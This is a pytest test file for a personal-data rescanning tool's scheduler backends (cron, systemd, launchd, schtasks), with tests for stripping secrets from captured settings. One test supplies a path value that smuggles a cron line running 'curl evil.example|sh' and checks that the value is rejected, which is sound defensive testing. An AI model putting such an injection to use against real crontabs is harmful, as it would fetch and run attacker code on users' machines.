"""Scheduler backends: the generated units, plist and command, and a real crontab round trip."""

from __future__ import annotations

import plistlib
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from lowprofile.cli.main import app
from lowprofile.schedule.base import Job, ScheduleError
from lowprofile.schedule.cron import TAG, cron_line
from lowprofile.schedule.launchd import agent_plist
from lowprofile.schedule.saved import capture_settings
from lowprofile.schedule.schtasks import create_command
from lowprofile.schedule.systemd import service_unit, timer_unit

EXE = Path("/opt/venv/bin/lowprofile")
PROFILE = Path("/home/jane/.config/lowprofile/profile.toml")
MONTHLY = Job(EXE, PROFILE, "monthly", 3, 9, 30)
WEEKLY = Job(EXE, PROFILE, "weekly", 1, 18, 5)


def test_cron_lines() -> None:
    assert cron_line(MONTHLY) == (
        f"30 9 3 * * /opt/venv/bin/lowprofile schedule run --profile {PROFILE} {TAG}"
    )
    assert cron_line(WEEKLY).startswith("5 18 * * 1 ")
    percent = Job(Path("/x/100%/lowprofile"), PROFILE, "monthly", 1, 0, 0)
    assert "100\\%" in cron_line(percent)


def test_systemd_units() -> None:
    assert service_unit(MONTHLY) == (
        "[Unit]\nDescription=lowprofile rescan for exposed personal data\n\n"
        "[Service]\nType=oneshot\n"
        f"ExecStart=/opt/venv/bin/lowprofile schedule run --profile {PROFILE}\nNice=10\n"
    )
    assert "OnCalendar=*-*-03 09:30:00\n" in timer_unit(MONTHLY)
    assert "OnCalendar=Mon *-*-* 18:05:00\n" in timer_unit(WEEKLY)
    assert "Persistent=true" in timer_unit(MONTHLY) and "WantedBy=timers.target" in timer_unit(
        WEEKLY
    )


def test_launchd_plist() -> None:
    document = plistlib.loads(agent_plist(MONTHLY))
    assert document["Label"] == "org.lowprofile.scan"
    assert document["ProgramArguments"] == [str(EXE), "schedule", "run", "--profile", str(PROFILE)]
    assert document["StartCalendarInterval"] == {"Day": 3, "Hour": 9, "Minute": 30}
    assert plistlib.loads(agent_plist(WEEKLY))["StartCalendarInterval"]["Weekday"] == 1


def test_schtasks_command() -> None:
    assert create_command(MONTHLY) == [
        "schtasks", "/Create", "/F", "/TN", "lowprofile-scan", "/TR",
        f"/opt/venv/bin/lowprofile schedule run --profile {PROFILE}",
        "/ST", "09:30", "/SC", "MONTHLY", "/D", "3",
    ]  # fmt: skip
    assert create_command(WEEKLY)[-2:] == ["/D", "MON"]


@pytest.mark.parametrize(("frequency", "day"), [("monthly", 31), ("weekly", 7), ("daily", 1)])
def test_bad_jobs(frequency: str, day: int) -> None:
    with pytest.raises(ScheduleError):
        Job(EXE, PROFILE, frequency, day, 9, 0)


def test_install_without_profile_names_init() -> None:
    result = CliRunner().invoke(app, ["schedule", "install"], env={"LOWPROFILE_SCHEDULER": "cron"})
    assert result.exit_code == 2 and "lowprofile init" in result.stderr


def _crontab() -> str:
    result = subprocess.run(["crontab", "-l"], capture_output=True, text=True, check=False)
    return result.stdout if result.returncode == 0 else ""


@pytest.fixture
def real_crontab() -> Iterator[None]:
    """The user's real crontab, restored afterwards exactly as it was."""
    if not shutil.which("crontab"):
        pytest.skip("crontab not installed: .ci/run installs Debian's cron for this test")
    backup = _crontab()
    had_one = subprocess.run(["crontab", "-l"], capture_output=True, check=False).returncode == 0
    try:
        yield
    finally:
        if had_one:
            subprocess.run(["crontab", "-"], input=backup, text=True, check=True)
        else:
            subprocess.run(["crontab", "-r"], capture_output=True, check=False)


def test_real_crontab_round_trip(real_crontab: None, private_dirs: dict[str, Path]) -> None:
    own = 'MAILTO=""\n# my backups\n17 3 * * * /usr/bin/true backup --all\n'
    subprocess.run(["crontab", "-"], input=own, text=True, check=True)
    runner = CliRunner()
    env = {"LOWPROFILE_SCHEDULER": "cron"}
    assert runner.invoke(app, ["init", "--name", "Jane Doe", "--city", "Austin"]).exit_code == 0
    for _ in range(2):  # installing twice leaves one entry
        result = runner.invoke(
            app, ["schedule", "install", "--day", "5", "--time", "07:45"], env=env
        )
        assert result.exit_code == 0, result.stderr
    lines = _crontab().splitlines()
    ours = [line for line in lines if "lowprofile" in line and "schedule run" in line]
    assert len(ours) == 1 and ours[0].startswith("45 7 5 * * ")
    assert str(private_dirs["config"] / "profile.toml") in ours[0]
    assert [line for line in lines if line not in ours] == own.splitlines()
    status = runner.invoke(app, ["schedule", "status"], env=env)
    assert "schedule run" in status.stdout
    assert runner.invoke(app, ["schedule", "remove"], env=env).exit_code == 0
    assert _crontab() == own


@pytest.mark.parametrize(
    "bad", ["/home/u/p.toml\n* * * * * curl evil.example|sh", "/a\rb", "/a\x00b"]
)
def test_a_control_character_in_a_path_cannot_add_a_cron_line(bad: str) -> None:
    with pytest.raises(ScheduleError, match="control character"):
        Job(Path("/opt/venv/bin/lowprofile"), Path(bad), "monthly", 1, 0, 0)


def test_the_job_keeps_the_settings_in_force_but_no_secret() -> None:
    environ = {
        "LOWPROFILE_PROXY": "socks5://user:hunter2@127.0.0.1:9050",
        "LOWPROFILE_DATA_DIR": "/srv/lp/data",
        "LOWPROFILE_CONFIG_DIR": "/srv/lp/config",
        "LOWPROFILE_SMTP_PASSWORD": "s3cret",
        "SSL_CERT_FILE": "/etc/corp-ca.pem",
        "HOME": "/home/u",
    }
    kept, notes = capture_settings(environ, ["LOWPROFILE_SMTP_PASSWORD", "HIBP_API_KEY"])
    assert kept == {
        "LOWPROFILE_PROXY": "socks5://127.0.0.1:9050",
        "LOWPROFILE_DATA_DIR": "/srv/lp/data",
        "LOWPROFILE_CONFIG_DIR": "/srv/lp/config",
        "SSL_CERT_FILE": "/etc/corp-ca.pem",
    }
    assert any("LOWPROFILE_SMTP_PASSWORD" in n for n in notes)
    assert any("password" in n for n in notes) and "hunter2" not in " ".join(notes)
    job = Job(Path("/bin/lowprofile"), PROFILE, "monthly", 1, 0, 0, env_file=Path("/c/s.json"))
    assert job.argv[-2:] == ["--settings", "/c/s.json"]
